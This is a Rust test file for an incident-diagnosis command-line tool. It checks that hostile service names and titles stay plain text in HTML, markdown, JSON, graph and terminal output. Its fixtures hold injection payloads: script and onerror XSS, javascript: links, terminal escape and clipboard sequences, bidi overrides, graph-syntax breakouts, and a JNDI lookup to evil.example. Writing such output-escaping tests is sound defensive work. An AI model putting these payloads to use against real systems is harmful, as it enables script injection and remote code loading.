//! Names, titles and statements that try to be more than text: in no output do they become markup,
//! a link, a statement of the graph, or steer a terminal.

use super::html::{attributes, links_resolve};
use super::machine::{dot_is_whole, mermaid_is_whole};
use super::support::{Scratch, rootline};
use serde_json::Value;
use std::fmt::Write;

/// A service name with everything in it that some format takes for its own.
const NAME: &str =
    "a\"];x->y[<script>alert(1)</script>`|\u{1b}[31m\u{202e}${{7*7}} [k](javascript:1)";
const TITLE: &str =
    "<img src=x onerror=alert(2)>\n# Owned\n![i](http://evil.example/p.png) @all | cell";
const QUERY: &str = "SELECT '</style><script>alert(3)</script>' -- \u{9b}2J [E1]: #x";

fn csv(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// An incident in which everything that has a name has a bad one.
fn folder() -> Scratch {
    let mut long = String::from("timestamp,metric,value,service\n");
    for i in 0..120 {
        let bad = (60..90).contains(&i);
        let t = 1_700_000_000 + i * 10;
        for (name, slow) in [(NAME, 2.0), ("shop", 1.9)] {
            let latency = if bad { slow } else { 0.01 + 0.0001 * f64::from(i % 7) };
            let errors = if bad { 0.4 } else { 0.0 };
            let _ = writeln!(long, "{t},latency,{latency},{}", csv(name));
            let _ = writeln!(long, "{t},error_rate,{errors},{}", csv(name));
        }
    }
    let events = format!(
        "timestamp,kind,service,title\n2023-11-14T22:23:00Z,deploy,{},{}\n2023-11-14T22:24:00Z,alert,shop,{}\n",
        csv(NAME),
        csv(TITLE),
        csv(TITLE)
    );
    let mut sessions = String::from(
        "snapshot_at,server,pid,datname,usename,application_name,backend_start,xact_start,query_start,\
         state,wait_event_type,wait_event,backend_type,blocked_by,query\n",
    );
    for i in 0..40 {
        let at = format!("2023-11-14 22:{:02}:{:02}+00", 20 + i / 6, (i % 6) * 10);
        for (pid, by, state) in
            [(1, "{}", "idle in transaction"), (2, "{1}", "active"), (3, "{1}", "active")]
        {
            let wait = if pid == 1 { "Client,ClientRead" } else { "Lock,transactionid" };
            let _ = writeln!(
                sessions,
                "{at},pg,{pid},d,u,{},2023-11-14 22:00:00+00,2023-11-14 22:20:00+00,\
                 2023-11-14 22:20:00+00,{state},{wait},client backend,\"{by}\",{}",
                csv(NAME),
                csv(QUERY)
            );
        }
    }
    let toml = format!("schema = 1\ntitle = {}\n", Value::from(TITLE));
    let topology = format!("caller,callee\nshop,{}\n{},pg\n", csv(NAME), csv(NAME));
    Scratch::with(&[
        ("metrics.csv", long.as_bytes()),
        ("events.csv", events.as_bytes()),
        ("pg_stat_activity.csv", sessions.as_bytes()),
        ("incident.toml", toml.as_bytes()),
        ("topology.csv", topology.as_bytes()),
    ])
}

/// Characters that steer a terminal or turn the reading direction.
fn steers(text: &str) -> bool {
    let hazard = |c: char| {
        c.is_control() && c != '\n'
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
    };
    text.contains(hazard)
}

#[test]
fn bad_names_stay_text_in_every_output() {
    let folder = folder();
    let path = folder.arg();
    let out = |args: &[&str]| {
        let run = rootline(&[args, &[&path]].concat());
        assert_eq!(run.code, 0, "{args:?}: {}", run.err);
        assert!(!steers(&run.out), "{args:?}");
        run.out
    };
    let text = out(&["diagnose", "-v"]);
    assert!(text.contains("<script>alert(1)</script>"), "the name is read: {text}");
    let answer: Value =
        serde_json::from_str(&out(&["diagnose", "--format", "json"])).expect("JSON");
    let actions = super::support::items(&answer["hypotheses"]).iter();
    let actions = actions.flat_map(|h| super::support::items(&h["mitigation"]));
    let commands: Vec<&str> = actions.filter_map(|a| a["command"].as_str()).collect();
    assert!(!commands.is_empty());
    assert!(commands.iter().all(|c| !c.contains("script")), "nobody pastes a name: {commands:?}");
    for args in [&["diagnose", "--format", "json"][..], &["diagnose", "--format", "sarif"]] {
        let v: Value = serde_json::from_str(&out(args)).expect("JSON");
        assert!(v.is_object());
    }
    for line in out(&["diagnose", "--format", "ndjson"]).lines() {
        assert!(serde_json::from_str::<Value>(line).is_ok_and(|v| v.is_object()), "{line}");
    }
    for args in [
        &["diagnose", "--format", "html"][..],
        &["report", "--template", "review", "--format", "html"],
        &["report", "--template", "rca", "--format", "html"],
    ] {
        page(&out(args));
    }
    for template in ["review", "rca", "light"] {
        markdown(&out(&["report", "--template", template]));
    }
    markdown(&out(&["diagnose", "--format", "markdown"]));
    let dot = out(&["graph", "--dot"]);
    assert!(dot.contains("script"), "the name is in the graph: {dot}");
    dot_is_whole(&dot);
    let chart = out(&["graph", "--mermaid"]);
    assert!(chart.contains("script"));
    mermaid_is_whole(&chart);
    out(&["graph"]);
    out(&["timeline"]);
    out(&["timeline", "--format", "json"]);
    assert!(!steers(&rootline(&["diff", &path, &path]).out));
}

/// A page has no element and no attribute that the data wrote.
fn page(page: &str) {
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    for tag in ["<script", "<img", "</style><script", "<iframe", "<link"] {
        assert!(!page.contains(tag), "{tag}");
    }
    // Outside tags nothing opens a tag, so every attribute is ours: all quotes are in pairs.
    for tag in page.split('<').skip(1) {
        let inside = tag.split('>').next().unwrap_or_default();
        let style = inside.starts_with("style") || tag.starts_with("style");
        assert!(style || inside.matches('"').count() % 2 == 0, "<{inside}>");
        assert!(!inside.contains(" onerror") || inside.contains('"'), "<{inside}>");
    }
    for link in attributes(page, "href") {
        assert!(link.starts_with('#'), "{link}");
    }
    links_resolve(page);
}

/// Lines of our own shapes only, and nothing that renders.
fn markdown(text: &str) {
    let mut fence: Option<String> = None;
    for line in text.lines() {
        let start = line.trim_start();
        if let Some(end) = &fence {
            if start == end {
                fence = None;
            }
            continue;
        }
        if start.starts_with("```") {
            fence = Some(start.to_owned());
            continue;
        }
        let own = ["# ", "## ", "### Files", "- ", "| ", "[", "Draft ", "rootline "];
        assert!(line.is_empty() || own.iter().any(|o| line.starts_with(o)), "{line}");
        let bare = line
            .replace("\\[", "")
            .replace("\\]", "")
            .replace("\\!", "")
            .replace("\\|", "")
            .replace("\\`", "");
        let bare = bare.replace("<a id=\"", "").replace("\"></a>", "");
        for hit in ["<", "](", "![", "://", " @", "`"] {
            assert!(!bare.contains(hit), "{hit}: {line}");
        }
        if line.starts_with('#') {
            assert!(!line.starts_with("# Owned"), "{line}");
        }
    }
    assert!(fence.is_none());
}

/// Texts that steer a terminal, hide, turn, or are markup of some output.
const CORPUS: [&str; 30] = [
    "\u{1b}[31mred",
    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31m",
    "bell\u{7}",
    "back\u{8}\u{8}space",
    "carriage\rreturn",
    "line\nfeed",
    "tab\there",
    "nul\u{1}soh",
    "\u{202e}txet desrever",
    "\u{2066}isolate\u{2069}",
    "zero\u{200b}width\u{feff}mark",
    "soft\u{200d}joiner",
    "<script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' style='position:fixed",
    "&lt;b&gt; &amp;",
    "javascript:alert(1)",
    "[click](http://evil.example)",
    "![pic](http://evil.example/p.png)",
    "`code` | cell | *bold* _em_",
    "# heading",
    "x\"]; evil [label=\"y",
    "a-->b; click a \"http://evil.example\"",
    "{\"json\": [1, \"}\"",
    "${jndi:ldap://evil.example/a}",
];

/// An incident in which the corpus stands in every place for a name.
fn corpus() -> Scratch {
    let mut long = String::from("timestamp,metric,value,service,instance,version\n");
    for (n, name) in CORPUS.iter().enumerate() {
        for i in 0..90 {
            let bad = (45..70).contains(&i) && n % 3 == 0;
            let t = 1_700_000_000 + i * 10;
            let (cell, latency) = (csv(name), if bad { 2.0 } else { 0.01 });
            let _ = writeln!(long, "{t},latency,{latency},{cell},{cell},{cell}");
        }
    }
    let mut events = String::from("timestamp,kind,service,title,version\n");
    let mut edges = String::from("caller,callee\n");
    let mut sessions = String::from(
        "snapshot_at,server,pid,datname,usename,application_name,client_addr,backend_start,xact_start,\
         query_start,state,wait_event_type,wait_event,backend_type,blocked_by,query\n",
    );
    for (n, name) in CORPUS.iter().enumerate() {
        let (cell, next) = (csv(name), csv(CORPUS[(n + 1) % CORPUS.len()]));
        let _ = writeln!(events, "2023-11-14T22:2{}:00Z,deploy,{cell},{next},{cell}", n % 10);
        let _ = writeln!(edges, "{cell},{next}");
        for i in 0..6 {
            let by = if n == 0 { "{}" } else { "{100}" };
            let _ = writeln!(
                sessions,
                "2023-11-14 22:2{i}:00+00,{cell},{},{cell},{cell},{cell},{cell},\
                 2023-11-14 22:00:00+00,2023-11-14 22:19:00+00,2023-11-14 22:19:00+00,active,\
                 {cell},{cell},client backend,\"{by}\",{}",
                100 + n,
                csv(&format!("SELECT \"{}\" /* {name} */", name.replace('"', "\"\"")))
            );
        }
    }
    let toml = format!("schema = 1\ntitle = {}\n", Value::from(CORPUS.join(" ")));
    Scratch::with(&[
        ("metrics.csv", long.as_bytes()),
        ("events.csv", events.as_bytes()),
        ("pg_stat_activity.csv", sessions.as_bytes()),
        ("incident.toml", toml.as_bytes()),
        ("topology.csv", edges.as_bytes()),
        ("\u{1b}[31m<b>\u{202e}`|[x](y).csv", b"milk and bread"),
        ("\u{1b}]8;;x\u{7}/more.csv", b"time,\x1b[2Jcart_cpu\n2023-11-14T22:20:00Z,1\n"),
    ])
}

#[test]
fn a_corpus_of_nasty_names_goes_through_every_command_as_text() {
    let folder = corpus();
    let path = folder.arg();
    let plain: [&[&str]; 20] = [
        &["diagnose", "-v"],
        &["diagnose", "-v", "--explain"],
        &["diagnose", "--ascii"],
        &["diagnose", "--format", "markdown"],
        &["diagnose", "--why-not", "H2"],
        &["inspect", "-v"],
        &["sessions", "-v"],
        &["sessions", "--show-literals", "-v"],
        &["explain", "H1"],
        &["timeline"],
        &["graph"],
        &["graph", "--dot"],
        &["graph", "--mermaid"],
        &["report"],
        &["report", "--template", "rca"],
        &["diagnose", "--format", "html"],
        &["report", "--format", "html"],
        &["diff", &path],
        &["history", "search"],
        &["redact", "--check"],
    ];
    for args in plain {
        let run = rootline(&[args, &[path.as_str()]].concat());
        assert!((0..=2).contains(&run.code) || run.code == 6, "{args:?}: {}", run.err);
        for shown in [&run.out, &run.err] {
            let bad = shown.chars().position(|c| steers(&c.to_string()));
            let near = bad.map(|p| shown.chars().skip(p.saturating_sub(60)).take(120));
            assert!(bad.is_none(), "{args:?}: {:?}", near.map(String::from_iter));
        }
        if args.contains(&"html") {
            for tag in ["<script", "<img", "<svg/onload", "<b>"] {
                assert!(!run.out.contains(tag), "{args:?}: {tag}");
            }
        }
        match args {
            ["graph", "--dot"] => dot_is_whole(&run.out),
            ["graph", "--mermaid"] => mermaid_is_whole(&run.out),
            _ => {}
        }
    }
    for args in [
        &["diagnose", "--format", "json"][..],
        &["diagnose", "--format", "sarif"],
        &["diagnose", "--format", "ndjson"],
        &["timeline", "--format", "json"],
        &["inspect", "--format", "json"],
        &["sessions", "--format", "json"],
    ] {
        let run = rootline(&[args, &[path.as_str()]].concat());
        assert_eq!(run.code, 0, "{args:?}: {}", run.err);
        assert!(!run.out.chars().any(|c| c.is_control() && c != '\n'), "{args:?}");
        let mut documents = serde_json::Deserializer::from_str(&run.out).into_iter::<Value>();
        assert!(documents.all(|d| d.is_ok()), "{args:?}");
    }
}
